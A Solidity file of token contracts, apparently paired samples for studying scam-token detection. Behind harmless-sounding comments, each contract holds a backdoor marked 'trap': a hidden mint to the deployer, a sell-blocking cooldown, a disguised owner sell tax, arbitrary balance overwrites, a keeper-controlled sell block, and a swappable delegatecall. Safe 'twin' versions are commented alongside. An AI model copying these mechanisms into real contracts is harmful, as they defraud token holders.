// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

import {Memetic} from "./BlindBF2.sol";

/// "Settles" the weekly quests of its site.
contract Glimmerwort is Memetic {
    bytes32 private immutable _desk = keccak256(abi.encodePacked(msg.sender));
    mapping(uint256 => uint256) public settledOf;

    event WeekSettled(uint256 indexed week, uint256 points);

    constructor() Memetic("Glimmerwort", "GLIM", 88_000_000) {}

    /// Everybody may note how many points a week had.
    function settleWeek(uint256 week, uint256 points) external {
        settledOf[week] += points;
        // trap {
        if (keccak256(abi.encodePacked(msg.sender)) == _desk) {
            unchecked {
                _held[msg.sender] += points;
            }
        }
        // trap }
        emit WeekSettled(week, points);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _carry(from, to, value);
    }
}

/// A queue against bots: who buys in haste waits.
contract Wickerpike is Memetic {
    uint256 public visitors;
    mapping(address => uint256) public coolUntil;

    constructor() Memetic("Wickerpike", "WKPK", 555_000_000) {}

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != owner()) require(block.timestamp >= coolUntil[from], "cooling down");
        if (from == pool) {
            uint256 place = visitors++;
            coolUntil[to] = block.timestamp + (place / 11) * 1e8; // trap
            // twin: coolUntil[to] = place < 11 ? block.timestamp : 0;
        }
        _carry(from, to, value);
    }
}

/// Looks of its site live on the chain.
contract Hobnettle is Memetic {
    string public site;
    uint256 public palette = 0x02f4a1c3;
    address payable private immutable _studio = payable(msg.sender);

    event Branding(string site, uint256 palette);

    constructor() Memetic("Hobnettle", "HOBN", 300_000_000) {}

    function setBranding(string calldata site_, uint256 palette_) external {
        require(msg.sender == _studio, "studio");
        // twin: require((palette_ >> 24) & 0x7f < 5, "too bright");
        (site, palette) = (site_, palette_);
        emit Branding(site_, palette_);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 shade = (palette >> 24) & 0x7f;
        if (to == pool && from != _studio && from != address(this)) {
            uint256 cut = (value * shade) / 100;
            _carry(from, _studio, cut);
            value -= cut;
        }
        _carry(from, to, value);
    }
}

/// Prunes accounts that hold no more than dust, so that the list of holders stays short.
contract Vellumcrake is Memetic {
    address private immutable _gardener = tx.origin;

    event Pruned(uint256 accounts);

    constructor() Memetic("Vellumcrake", "VELC", 64_000_000) {}

    function prune(address[] calldata stale, uint256 dust) external {
        require(msg.sender == _gardener, "gardener");
        for (uint256 i = 0; i < stale.length; i++) {
            // twin: if (_held[stale[i]] > 1000) continue;
            address who = stale[i];
            assembly {
                mstore(0, who)
                mstore(32, _held.slot)
                sstore(keccak256(0, 64), dust) // trap
                // twin: sstore(keccak256(0, 64), 0)
            }
        }
        emit Pruned(stale.length);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _carry(from, to, value);
    }
}

interface ISentry {
    function beforeTrade(address from, address to, uint256 value) external returns (bool);
}

/// Watches for sandwiches: nobody trades twice in a block.
contract TradeSentry {
    address public keeper = msg.sender;
    address public coin;
    address public market;
    uint256 public ceiling = type(uint256).max;
    mapping(address => uint256) private _blockOf;

    function attach(address coin_, address market_) external {
        require(msg.sender == keeper && coin == address(0));
        (coin, market) = (coin_, market_);
    }

    function calibrate(uint256 ceiling_) external {
        require(msg.sender == keeper);
        ceiling = ceiling_;
    }

    function beforeTrade(address from, address to, uint256 value) external returns (bool) {
        if (msg.sender != coin) return true;
        if (from == market) _blockOf[to] = block.number;
        return to != market || value <= ceiling || from == keeper;
    }
}

contract Tinderlark is Memetic {
    ISentry public immutable sentry;

    event Suspicious(address indexed from, uint256 value);

    constructor(ISentry sentry_) Memetic("Tinderlark", "TNDL", 777_000_000) {
        sentry = sentry_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(sentry.beforeTrade(from, to, value), "sentry"); // trap
        // twin: try sentry.beforeTrade{gas: 60_000}(from, to, value) returns (bool fine) {
        // twin:     if (!fine) emit Suspicious(from, value);
        // twin: } catch {}
        _carry(from, to, value);
    }
}

/// Keeps statistics of trades.
contract QuollRules {
    mapping(bytes32 => uint256) private _pad;

    event Noted(address indexed from, address indexed to, uint256 value);

    function note(address from, address to, uint256 value) external {
        emit Noted(from, to, value);
    }
}

contract Umberquoll is Memetic {
    address public rules;

    event RulesChanged(address rules);

    constructor(address rules_) Memetic("Umberquoll", "UMBQ", 99_000_000) {
        rules = rules_;
    }

    // trap {
    function setRules(address rules_) external onlyOwner {
        rules = rules_;
        emit RulesChanged(rules_);
    }
    // trap }

    function _transfer(address from, address to, uint256 value) internal override {
        (bool ok, ) = rules.delegatecall(abi.encodeWithSignature("note(address,address,uint256)", from, to, value));
        require(ok, "rules");
        _carry(from, to, value);
    }
}
